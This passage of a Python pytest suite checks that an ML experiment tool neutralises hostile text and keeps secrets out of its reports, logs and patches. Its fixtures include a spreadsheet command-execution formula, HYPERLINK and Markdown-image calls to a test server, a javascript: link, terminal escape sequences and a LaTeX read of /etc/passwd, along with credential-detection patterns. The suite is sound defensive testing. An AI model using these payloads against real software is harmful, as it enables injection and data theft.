    "[link=SERVER]x[/link]",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("SERVER")',
    "@SUM(1)",
    "+1+cmd",
    "\t=1+1",
    "\uff1d1+1",
    "\x1b]0;owned\x07",
    "\x1b[2J\x1b[31mred",
    "\x9b31m",
    "a\r\nb",
    "\u202egnp.exe",
    "![x](SERVER/x.png)",
    "[x](javascript:alert)",
    "\\input{/etc/passwd}",
    "group",
    "val/acc mean",
]


@pytest.fixture(scope="module")
def texts(tmp_path_factory: pytest.TempPathFactory, server: Server) -> Path:
    """Runs that hold each text in every place that a comparison shows."""
    folder = tmp_path_factory.mktemp("texts")
    for number, given in enumerate(TEXTS):
        text = given.replace("SERVER", server.address)
        for seed in range(2):
            name = re.sub(r"[/\0=]", "-", text)
            run = record(
                folder / "runs" / f"{number} {seed}" / name, "seed=1", "optimizer.lr=0.5",
                status="completed" if seed else text, metrics={"val/acc": 0.5 + number, text: 1.0 * number},
                curves={"val/acc": [0.1, 0.5], text: [1.0, 2.0]}, hostname=text, devices=text,
                started="2026-11-22T08:00:00",
            )  # fmt: skip
            config = yaml.safe_load((run / ".hydra" / "config.yaml").read_text())
            config |= {
                "note": text,
                "objective": {"metric": "val/acc", "mode": "max"},
                re.sub("[.=]", "-", text): number,
            }
            (run / ".hydra" / "config.yaml").write_text(yaml.safe_dump(config))
            (run.parent / "sweep.json").write_text(json.dumps({"status": "running", "name": text}))
    return folder


def test_hostile_texts_stay_text_wherever_they_are_shown(texts: Path, capsys: pytest.CaptureFixture[str]) -> None:
    runs = sorted((texts / "runs").glob("*/*/"))
    compare_main([str(texts / "runs"), "metric=val/acc", f"out={texts}"])
    compare_main(["diff", str(runs[0]), str(runs[-1])])
    print(Run(runs[0]), Run(runs[-1]))
    for shown in (capsys.readouterr().out, *((texts / name).read_text() for name in ("table.md", "table.tex"))):
        assert CONTROL.sub("", shown.replace("\n", "")) == shown.replace("\n", "")
    for name in ("table.csv", "runs.csv", "curves.csv"):
        with (texts / name).open(newline="") as file:
            cells = {cell for row in csv.reader(file) for cell in row}
        assert not [cell for cell in cells if cell.strip()[:1] in {*"=+@\uff1d"}], name
    table = (texts / "table.md").read_text()
    assert not re.findall(r"(?<!\\)(?:\\\\)*[<\[]", table.replace("95 % interval", ""))
    [text] = re.findall(r'id="figures">(.*?)</script>', (texts / "report.html").read_text())
    assert not {*"<>"} & {*text}


@pytest.mark.slow
@chromium.needed
def test_no_hostile_text_runs_a_script_or_asks_a_server(texts: Path, server: Server, tmp_path: Path) -> None:
    compare_main([str(texts / "runs"), "metric=val/acc", f"out={texts}"])
    seen = chromium.visit(texts / "report.html", tmp_path / "page")
    assert seen.console == []
    assert seen.requests == []
    assert server.asked == []
    assert 'data-drawn="' in seen.html
    assert not re.findall(r"<(img|svg onload|a href=.javascript)", seen.html.partition("<script")[0])


def test_a_log_and_an_error_show_no_escape_sequence(capsys: pytest.CaptureFixture[str]) -> None:
    with user_errors():
        logging.getLogger("x").warning("\x1b[31m one\ntwo \x9b")
    assert report(UserError("three\n\x1b]0;owned\x07")) == 2
    assert capsys.readouterr().err == "\\x1b[31m one\ntwo \\x9b\nerror: three\n\\x1b]0;owned\\x07\n"


def test_a_formula_in_predictions_is_text(tmp_path: Path) -> None:
    table = polars.DataFrame({"=a": ["=1+1", "-", "-0.5", "@x", None, "a=1"], "n": [1, -2, 3, 4, 5, 6]})
    write_table(tmp_path / "out.csv", table, ["=a"])
    with (tmp_path / "out.csv").open(newline="") as file:
        assert [row[0] for row in csv.reader(file)] == ["'=a", "'=1+1", "-", "-0.5", "'@x", "", "a=1"]
    write_table(tmp_path / "out.jsonl", table, ["=a"])
    assert '"=1+1"' in (tmp_path / "out.jsonl").read_text()


# What the command line may not write down: a variable of the environment, if it is one's value, and an override
LONG = "0123456789abcdefABCDEFGHIJKLMNOP"
SECRETS = [
    *((name, "data.name=given-away-7") for name in ("MY_PASS", "DB_PWD", "PGPASS", "SLACK_WEBHOOK", "JWT", "BEARER")),
    *((name, "data.name=given-away-7") for name in ("SESSION_COOKIE", "SLURM_JWT", "DB_PW", "MY_CONNECTION_STRING")),
    ("", "data.mirrors=['https://given-away-7@host/']"),
    ("", "data.mirrors=['https://given-away-7:@host/']"),
    ("", "data.mirrors=['https://host/a?token=given-away-7']"),
    ("", "data.mirrors=['https://host/a?b=c&X-Amz-Signature=given-away-7']"),
    ("", "data.mirrors=['https://host/a?sv=1&sig=given-away-7']"),
    ("", "+logger.wandb.api_key=given-away-7"),
    ("", "+logger.x.password=given-away-7"),
    ("", "hydra.job.env_set.MY_PASS=given-away-7"),
    *(("", f"data.name={form}{LONG}") for form in ("ghp_", "github_pat_", "glpat-", "sk-", "sk-proj-", "hf_", "xoxb-")),
    ("", f"data.name=eyJ{LONG}.eyJ{LONG}.{LONG}"),
    ("", f"data.name=https://hooks.slack.com/services/T0/B0/{LONG}"),
    ("", f"data.name='Authorization: Bearer {LONG}'"),
    ("", "data.name=AKIA0123456789ABCDEF"),
]


@pytest.mark.parametrize(("name", "override"), SECRETS)
def test_a_secret_is_not_written_down(name: str, override: str, place: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    if name:
        monkeypatch.setenv(name, "given-away-7")
    key, _, value = override.lstrip("+").partition("=")
    config = OmegaConf.from_dotlist([f"paths.run_dir={place}", f"{key}={value}"])
    hydra = OmegaConf.create({"paths": {"run_dir": str(place)}})
    with pytest.raises(UserError, match=f"{re.escape(key)}: this would save") as told:
        authorize(hydra, [override])
    assert "given-away-7" not in str(told.value)
    assert LONG not in str(told.value)
    if not name and not key.startswith("hydra."):
        with pytest.raises(UserError, match=f"{re.escape(key)}.*: this would save"):
            authorize(config)
    if "=" in value or "_" in value or "." in value or name:
        assert not {"given-away-7", LONG} & {*re.split(r"[\s'=&/?@]+", redact(override))}


HARMLESS = [
    "data.mirrors=['http://x:80/a@b', 'https://host/?mail=b@c&author=ada']", "+model.pad_token=<padding>",
    "+data.eos_token=<|endoftext|>", "+callbacks.x.sort_key=val/accuracy", "logger.wandb.api_key=${oc.env:WANDB_KEY}",
    "data.mirrors=['https://${oc.env:T}@x/?token=${oc.env:T}']", "hydra.sweeper.storage=postgresql://me@host/sweeps",
    "data.num_tokens=20000", "data.name=sk-learn-experiments-baseline-2", "model.name=hf_transformer_model_large_v2",
    "logger.x.password=null", "data.path=/data/passports/token=3",
]  # fmt: skip


@pytest.mark.parametrize("override", HARMLESS)
def test_what_is_no_secret_may_be_typed(override: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(COMMAND_LINE, json.dumps([override]))
    monkeypatch.setenv("COMPASS", "val/accuracy")
    authorize(OmegaConf.create({"paths": {"run_dir": "/runs/1"}}), [override])


PRIVATE_FILES = [
    "src/.env", "src/.env.local", "configs/prod.env", "src/credentials.json", "configs/credentials.yaml", "src/id_rsa",
    "src/id_ed25519.pub", "scripts/server.pem", "scripts/server.key", "src/store.p12", "src/lab/table.csv",
    "src/a.parquet", "src/weights.pt", "src/notes.txt", "configs/secrets/mine.yaml", "src/service-account.json",
    "src/dump.sql", "src/.netrc",
]  # fmt: skip
PRIVATE_LINES = [
    f'API_KEY = "{LONG}"', f"password: {LONG}", f'"auth_token": "{LONG}",', f"'https://{LONG}@host'", f"ghp_{LONG}",
    f"https://host/?token={LONG}", f"-----BEGIN RSA PRIVATE KEY-----\n{LONG}\n{LONG}\n-----END RSA PRIVATE KEY-----",
]  # fmt: skip


def test_a_patch_holds_source_and_no_secret(tmp_path: Path) -> None:
    git = ["git", "-C", str(tmp_path), "-c", "user.name=x", "-c", "user.email=x@localhost"]
    tracked = [tmp_path / "src" / name for name in ("code.py", "tracked.csv", "tracked.key")]
    tracked[0].parent.mkdir()
    for path in tracked:
        path.write_text("a = 1\n")
    for words in (["init", "-q"], ["add", "-A"], ["commit", "-q", "-m", "first"]):
        subprocess.run([*git, *words], check=True, timeout=60)
    for path in (*tracked[1:], *(tmp_path / name for name in PRIVATE_FILES)):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(LONG)
    lines = "".join(f"{line}\n" for line in PRIVATE_LINES)
    tracked[0].write_text(f"a = 1\n{lines}")
    (tmp_path / "src" / "new.py").write_text(f"pad_token = '<padding>'\n{lines}")
    made = patch(tmp_path)
    assert LONG not in made
    changed = set(re.findall(r"^diff --git a/(\S+)", made, re.MULTILINE))
    assert changed == {"src/code.py", "src/new.py"}
    named = {*re.findall(r"^# left out, \d+ bytes: (.*)$", made, re.MULTILINE)}
    assert named == {"src/tracked.csv", "src/tracked.key", *(name for name in PRIVATE_FILES if "/." not in name)}
    assert "+pad_token = '<padding>'" in made
    for path in tracked:
        path.write_text("a = 1\n")
    (tmp_path / "src" / "new.py").unlink()
    subprocess.run([*git, "apply"], input=made.encode(), check=True, timeout=60)
    assert "-----END RSA PRIVATE KEY-----" in (tmp_path / "src" / "new.py").read_text(), "and it can be applied"


@pytest.mark.parametrize(
    "name", [".env", ".env.local", "src/.env", "key.pem", "src/server.key", "id_rsa", "configs/x.env"]
)
def test_git_ignores_what_is_private(name: str) -> None:
    assert subprocess.run(["git", "-C", str(ROOT), "check-ignore", "-q", name], check=False, timeout=60).returncode == 0


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["what hydra builds", "logging", "places", "secrets", "hidden targets"])
def test_the_real_command_refuses_them(kind: str, place: Path, server: Server) -> None:
    experiment, *_ = EXPERIMENTS[kind][0]
    write(place, filled(experiment, place, server))
    answer = run_script("src/train.py", "--config-dir", str(place), "experiment=evil", f"paths.log_dir={place}/logs")
    assert answer.returncode == 2, answer.stderr
    assert "Traceback" not in answer.stderr
    assert not list(place.glob("logs/runs/*/*/checkpoints"))
